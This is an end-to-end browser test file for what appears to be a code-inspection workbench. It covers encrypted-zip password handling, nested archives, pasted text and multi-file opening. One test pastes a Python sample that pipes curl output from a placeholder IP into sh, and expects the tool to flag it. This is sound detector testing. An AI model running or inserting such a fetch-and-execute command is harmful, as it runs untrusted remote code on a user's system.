import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { WebHost } from "../../main/web/start-web-host.ts";
import { buildZip } from "../support/zip-builder.ts";
import { madeElsewhere } from "../support/zips-made-elsewhere.ts";
import { assertNoComplaints, launchBrowser } from "./support/browser.ts";
import { makeScratch, type Scratch, startHost, WorkbenchPage } from "./support/workbench.ts";

const PASSWORD = "secret";
let browser: Browser;
let scratch: Scratch;
let host: WebHost;
let bench: WorkbenchPage;
const said: string[] = [];

beforeAll(async () => {
	browser = await launchBrowser();
});
afterAll(async () => {
	await browser?.close();
});
beforeEach(async () => {
	scratch = await makeScratch();
	said.length = 0;
});
afterEach(async () => {
	await bench?.close();
	await host?.close();
	await scratch.remove();
	assertNoComplaints(bench.complaints);
});

async function start(name?: string, bytes?: Uint8Array): Promise<void> {
	const targets: string[] = [];
	if (name !== undefined && bytes !== undefined) {
		const file = join(scratch.folder, name);
		writeFileSync(file, bytes);
		targets.push(file);
	}
	const stateFolder = join(scratch.folder, "state");
	host = await startHost({ targets, stateFolder, say: (line) => said.push(line) });
	bench = await WorkbenchPage.open(browser, host.url);
}

/** What the page keeps of its own, and what the host has said. */
async function everythingKept(): Promise<string> {
	const kept = await bench.page.evaluate(() =>
		JSON.stringify([sessionStorage, localStorage].map((store) => Object.entries(store))),
	);
	return kept + said.join("\n");
}

describe("an encrypted zip", () => {
	it("asks for its password by keys alone, says when it is wrong, and keeps it nowhere", async () => {
		await start("locked.zip", madeElsewhere.traditionalSecret);
		const box = bench.part("password");
		await box.waitFor();
		expect(await bench.part("opening-fault").getAttribute("data-code")).toBe("password-needed");
		expect(await box.evaluate((element) => element === document.activeElement)).toBe(true);
		await bench.page.keyboard.type("wrong one");
		await bench.press("Enter");
		await bench.page.getByText("the password that was given did not open it").waitFor();
		expect(await bench.part("opening-fault").innerText()).not.toContain("wrong one");
		await bench.part("password").waitFor();
		await bench.page.keyboard.type(PASSWORD);
		await bench.press("Enter");
		await bench.part("workbench").waitFor();
		expect(await bench.part("explorer-tree").innerText()).toContain("setup.py");
		const kept = await everythingKept();
		expect(kept).toContain("locked.zip");
		expect(kept).not.toContain(PASSWORD);
	});

	it("inside another archive is opened from the coverage", async () => {
		const content = [
			{ name: "pond.py", content: "import os\n" },
			{ name: "locked.zip", content: madeElsewhere.traditionalSecret },
		];
		await start("pond.zip", buildZip(content));
		await bench.part("workbench").waitFor();
		await bench.press("Alt+6");
		await bench.part("command:artifact.password").click();
		await bench.page.keyboard.type(PASSWORD);
		await bench.press("Enter");
		await bench.page.getByText("3/3 examined").waitFor();
		expect(await bench.part("command:artifact.password").count()).toBe(0);
	});
});

describe("without a package", () => {
	it("looks at text that was pasted", async () => {
		await start();
		await bench.part("command:artifact.paste").click();
		await bench.part("paste-text").waitFor();
		await bench.page.keyboard.insertText("import os\nos.system('curl http://192.0.2.7/x | sh')\n");
		await bench.press("Control+Enter");
		await bench.part("workbench").waitFor();
		expect(await bench.part("artifact-name").innerText()).toContain("pasted.py");
		expect(await bench.part("machine-verdict").first().getAttribute("data-verdict")).not.toBe("clear");
	});

	it("opens several files as one", async () => {
		await start();
		const chooser = bench.page.waitForEvent("filechooser");
		await bench.part("command:artifact.open-together").click();
		const file = (name: string) => ({ name, mimeType: "text/x-python", buffer: Buffer.from("import os\n") });
		await (await chooser).setFiles([file("frog.py"), file("newt.py")]);
		await bench.part("workbench").waitFor();
		const tree = await bench.part("explorer-tree").innerText();
		expect([tree.includes("frog.py"), tree.includes("newt.py")]).toEqual([true, true]);
	});
});
